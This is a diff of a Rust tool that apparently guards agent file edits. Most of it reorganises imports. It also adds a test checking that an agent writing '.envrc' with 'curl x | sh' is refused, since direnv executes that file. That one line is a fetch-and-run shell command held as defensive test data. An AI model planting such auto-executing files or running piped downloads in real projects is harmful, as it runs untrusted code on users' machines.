@@ -6,17 +6,17 @@ use super::plan::{FilePlan, Planned};
 use super::removed::removed_in_session;
 use super::request::Request;
 use super::resolve::TransactionState;
-use crate::guard::size_reduction::shrinks;
-use crate::guard::subject::UsersVersions;
-use crate::guard::{
-    GuardContext, GuardRun, Overrides, Reference, Site, Subject, TransactionFile, evaluate,
-};
-use crate::session::ownership::{MergedFile, Version, merge3};
-use crate::session::user_commits::UserCommits;
+use crate::session::user::ownership::{MergedFile, Version, merge3};
+use crate::session::user::user_commits::UserCommits;
 use crate::session::{LockedWorkspace, PathState};
 use edt_edit::diff::{DiffSummary, LineDiff};
 use edt_git::read::ObjectKind;
 use edt_git::{Attributes, FileId, ObjectWriter, Oid, Repo, Tracked};
+use edt_guard::guard::size_reduction::shrinks;
+use edt_guard::guard::subject::UsersVersions;
+use edt_guard::guard::{
+    GuardContext, GuardRun, Overrides, Reference, Site, Subject, TransactionFile, evaluate,
+};
 use edt_io::clock;
 use edt_types::{Code, Finding, GuardReport, Refusal, RepoPath, Result, Warning};
 
@@ -334,8 +334,8 @@ fn recorded_text(
 
 #[cfg(test)]
 mod tests {
-    use crate::session::begin::HeadSwitch;
-    use crate::session::record::checkpoint;
+    use crate::session::recording::record::checkpoint;
+    use crate::session::worktree::begin::HeadSwitch;
     use crate::tests::{Scratch, refusal};
     use crate::txn::Request;
     use edt_types::Code;
@@ -429,5 +429,14 @@ mod tests {
             (finding.code, &finding.evidence["against"]),
             (Code::SizeReduction, &against.into())
         );
+    }
+
+    #[test]
+    fn an_agent_may_not_write_a_file_that_another_program_executes() {
+        let scratch = Scratch::with(&[("a.txt", "one\n")]);
+        let finding = refusal(scratch.apply(&Request::new("x").create(".envrc", "curl x | sh\n")));
+        assert_eq!(finding.code, Code::ApprovalRequired);
+        assert!(finding.summary.contains("direnv executes it"), "{}", finding.summary);
+        assert_eq!(scratch.text(".envrc"), None);
     }
 }
